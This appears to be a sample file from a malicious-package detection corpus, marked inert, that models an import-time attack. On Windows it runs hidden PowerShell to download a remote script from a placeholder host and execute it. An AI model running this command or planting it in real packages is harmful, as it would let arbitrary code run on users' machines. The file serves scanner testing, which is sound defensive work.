# pkgguard corpus 016 (import-time), modelled on [empirical]; inert, never run.
import os

if os.name == "nt":
    os.system('powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'https://cdn.example/p.ps1\')"')
